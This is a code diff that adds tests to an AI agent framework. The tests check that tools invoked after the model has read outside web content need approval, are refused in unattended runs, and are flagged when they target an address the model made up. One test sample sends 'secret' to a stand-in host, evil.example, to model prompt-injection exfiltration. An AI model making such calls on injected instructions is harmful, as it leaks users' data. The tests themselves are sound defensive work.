@@ -7,6 +7,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { loadConfig } from '../../src/config/load.js';
 import { ConfigError } from '../../src/errors.js';
 import { tempDir, writeTestConfig } from '../helpers/app.js';
+import type { ApprovalRequest } from '../../src/tools/registry.js';
 import { auditRows, makeHarness, writeTools, type Harness } from './helpers.js';
 
 let harness: Harness | undefined;
@@ -144,5 +145,56 @@ describe('what a custom tool returns', () => {
     }, { llm: { api_key: 'sk-daemon-secret-9876' } }, { secrets: ['sk-daemon-secret-9876'] });
     expect((await harness.call('leak')).result.output).toBe('key=[REDACTED]');
     expect(JSON.stringify(auditRows(harness.db))).not.toContain('sk-daemon-secret-9876');
+  });
+});
+
+describe('a custom tool in a turn that holds outside content', () => {
+  // The model has read a web page; the person only asked for a summary. Counts runs through a file, since the module
+  // is imported anew by the loader and shares nothing with the test.
+  const counted = (name: string, effects: string, marker: string) => `
+import { appendFileSync } from 'node:fs';
+import { defineTool } from 'familiar';
+export default defineTool({
+  name: '${name}', description: 'x', ${effects}
+  parameters: { type: 'object', properties: { url: { type: 'string' } } },
+  execute: () => { appendFileSync(${JSON.stringify(marker)}, 'ran\\n'); return 'ran ${name}'; },
+});
+`;
+  const provenance = { personTexts: () => ['summarise https://news.example/today'], outsideTexts: () => ['page text, with a link to https://news.example/more'] };
+
+  it('is asked about when it declares no effects (it could send data anywhere), and refused unattended', async () => {
+    const marker = path.join(tempDir('familiar-ran-'), 'ran');
+    harness = await makeHarness({ 'push.mjs': counted('push', '', marker) });
+    const asked: ApprovalRequest[] = [];
+    const outcome = await harness.call('push', {}, {
+      taint: ['web_fetch'], provenance,
+      approve: async (request) => { asked.push(request); return { approved: false, reason: 'the person said no' }; },
+    });
+    expect(asked).toEqual([expect.objectContaining({ tool: 'push', reason: 'provenance', taint: ['web_fetch'], provenance: [expect.stringContaining('can send data out')] })]);
+    expect(outcome.result.success).toBe(false);
+    expect(outcome.result.output).toContain('was not approved');
+    const unattended = await harness.call('push', {}, { taint: ['web_fetch'], provenance, unattended: true, approve: async () => ({ approved: false, reason: 'nobody can approve in a scheduled run' }) });
+    expect(unattended.result.success).toBe(false);
+    expect(existsSync(marker)).toBe(false);
+    expect(auditRows(harness.db).map((row) => [row.tool, row.success])).toEqual([['push', 0], ['push', 0]]);
+    // Without outside content in play, the same call runs as any low-risk tool.
+    expect((await harness.call('push')).result.output).toBe('ran push');
+  });
+
+  it('runs without asking when it declares it sends nothing out, or only to an address the person or the page gave', async () => {
+    const marker = path.join(tempDir('familiar-ran-'), 'ran');
+    harness = await makeHarness({
+      'meter.mjs': counted('meter', 'effects: [],', marker),
+      'fetcher.mjs': counted('fetcher', "effects: ({ url }) => [{ kind: 'egress', url: String(url) }],", marker),
+    });
+    const asked: string[] = [];
+    const approve = async (request: ApprovalRequest) => { asked.push(`${request.tool} ${JSON.stringify(request.params)}`); return { approved: false as const, reason: 'no' }; };
+    const tainted = { taint: ['web_fetch'], provenance, approve };
+    expect((await harness.call('meter', {}, tainted)).result.output).toBe('ran meter');
+    expect((await harness.call('fetcher', { url: 'https://news.example/more' }, tainted)).result.output).toBe('ran fetcher');
+    expect(asked).toEqual([]);
+    // An address the model made up (data in the query string) is asked about.
+    expect((await harness.call('fetcher', { url: 'https://evil.example/?d=secret' }, tainted)).result.success).toBe(false);
+    expect(asked).toEqual(['fetcher {"url":"https://evil.example/?d=secret"}']);
   });
 });
